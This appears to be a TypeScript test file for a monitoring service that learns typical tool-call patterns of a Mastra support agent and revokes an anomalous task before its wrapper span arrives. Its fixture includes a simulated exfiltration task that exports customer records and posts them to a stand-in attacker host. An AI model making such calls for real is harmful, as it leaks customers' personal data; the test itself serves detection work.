/**
 * A task that began under its agent's stand-in (`service.name`), because its first spans named no agent, and whose
 * later spans claimed one: the type its wrapper span declares is the usual type of both, so the framework's next
 * task, which begins under the stand-in again, is scored as that type before its own wrapper span arrives.
 *
 * The spans are a real Mastra run's (test/helpers/mastra-run.ts, mode `wrapper`): Mastra's tool spans name no
 * agent, its model and agent-run spans claim `gen_ai.agent.id`, and the user's wrapper span, exported by the user's
 * own OpenTelemetry SDK, declares the task id and type after Mastra's spans of the run have arrived.
 */
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { OtlpTraceRequest } from '../../../schemas/otlp.ts';
import { classifyRequest } from '../../../services/core/classify.ts';
import { decodeTraceRequest } from '../../../services/otlp/codec.ts';
import type { Processor } from '../../../services/processor/processor.ts';
import { recordMastraRun } from '../../helpers/mastra-run.ts';
import type { MastraPlannedTask, MastraRun } from '../../helpers/mastra-run.ts';
import { WARMUP, revocationsOf, startProcessor } from '../../unit/processor/harness.ts';
import type { Harness } from '../../unit/processor/harness.ts';

const TENANT = 'default';
const TASK_TYPE = 'refund_mastra';
const started: Harness[] = [];

/** The spans of one trace among those the run's requests sent by `exporter` (Mastra's or the user's SDK). */
function traceSpans(run: MastraRun, traceId: string, exporter: 'mastra' | 'wrapper'): OtlpTraceRequest {
  const resourceSpans = run.bodies
    .flatMap((body) => decodeTraceRequest(body, 'protobuf').resourceSpans)
    .filter((resource) => {
      const sdk = resource.resource?.attributes.find((attribute) => attribute.key === 'telemetry.sdk.name');
      return (sdk?.value?.stringValue === '@mastra/otel-exporter') === (exporter === 'mastra');
    })
    .map((resource) => ({
      ...resource,
      scopeSpans: resource.scopeSpans.map((scope) => ({
        ...scope,
        spans: scope.spans.filter((span) => span.traceId === traceId),
      })),
    }));
  return { resourceSpans };
}

async function send(processor: Processor, request: OtlpTraceRequest): Promise<void> {
  const { events, boundaries, usages } = classifyRequest(request, TENANT);
  await processor.handle({ events, boundaries, usages });
}

afterEach(async () => {
  for (const h of started.splice(0)) await h.processor.stop();
});

describe("a Mastra agent's tasks declared by wrapper spans", () => {
  let run: MastraRun;

  beforeAll(async () => {
    const benign = (n: number): MastraPlannedTask => ({
      label: 'benign',
      taskType: TASK_TYPE,
      taskId: `ticket-${String(n)}`,
      calls: [
        { tool: 'get_order', args: { order_id: `ord-${String(n)}` } },
        { tool: 'issue_refund', args: { order_id: `ord-${String(n)}`, amount: 5 + n } },
      ],
    });
    const exfiltration: MastraPlannedTask = {
      label: 'exfiltration',
      taskType: TASK_TYPE,
      taskId: 'ticket-exfiltration',
      calls: [
        { tool: 'export_customers', args: { limit: 50 } },
        { tool: 'http_post', args: { url: 'https://exfil.attacker.example/upload', body: 'id,email' } },
      ],
    };
    run = await recordMastraRun([...Array.from({ length: WARMUP }, (_, n) => benign(n)), exfiltration], 'wrapper');
  }, 120_000);

  it("scores the next task as the type its agent's tasks declared, though its tool spans name only Mastra's service", async () => {
    const h = await startProcessor();
    started.push(h);
    const traces = run.tasks.map((entry) => entry.traceId);
    const attack = traces.pop();
    if (attack === undefined || traces.length !== WARMUP)
      throw new Error(`the run printed ${JSON.stringify(run.tasks)}`);
    for (const trace of traces) {
      await send(h.processor, traceSpans(run, trace, 'mastra'));
      await send(h.processor, traceSpans(run, trace, 'wrapper'));
    }
    expect(await h.store.getTask(TENANT, traces[0] ?? '')).toMatchObject({
      name: 'ticket-0',
      taskType: TASK_TYPE,
      agentId: 'support-agent',
      status: 'completed',
    });
    expect(h.processor.baselines().get(TENANT, TASK_TYPE)?.tasks).toBe(WARMUP);

    // The attack's own wrapper span has not arrived: only what the earlier tasks taught says its type.
    await send(h.processor, traceSpans(run, attack, 'mastra'));
    expect(revocationsOf(h.messages).map((revocation) => revocation.taskId)).toEqual([attack]);
    expect(await h.store.getTask(TENANT, attack)).toMatchObject({
      taskType: TASK_TYPE,
      agentId: 'support-agent',
      status: 'revoked',
      regime: 'type_baseline',
    });
  });
});
